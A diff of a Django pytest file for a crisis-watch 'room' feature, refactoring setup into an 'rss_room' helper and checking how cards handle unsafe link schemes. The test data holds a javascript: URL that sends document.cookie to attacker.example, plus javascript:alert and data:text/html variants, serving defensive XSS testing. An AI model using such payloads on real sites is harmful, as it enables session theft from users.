@@ -7,6 +7,8 @@ import pytest
 from django.urls import reverse
 from django.utils import timezone
 
+from watch_rooms import rss_room
+
 HOSTILE = "javascript:fetch('https://attacker.example/'+document.cookie)"
 FINE = "https://www.vendee.gouv.fr/alerte"
 
@@ -17,16 +19,7 @@ def room(org, members):
     from beffroi.watch.models import Card
 
     coord = members["coordinator"]
-    activation = actions.create_activation(
-        org, name="Crue du Lay", event_type="inondation", area=["85"], actor=coord
-    )
-    source = actions.add_source(
-        activation,
-        kind="rss",
-        name="Flux",
-        data={"url": "https://example.org/rss.xml"},
-        actor=coord,
-    )
+    activation, source = rss_room(org, coord, name="Crue du Lay", source_name="Flux")
     cards = {}
     for i, url in enumerate((HOSTILE, FINE, " JavaScript:alert(1)", "data:text/html,<b>x</b>")):
         cards[url] = Card.objects.create(
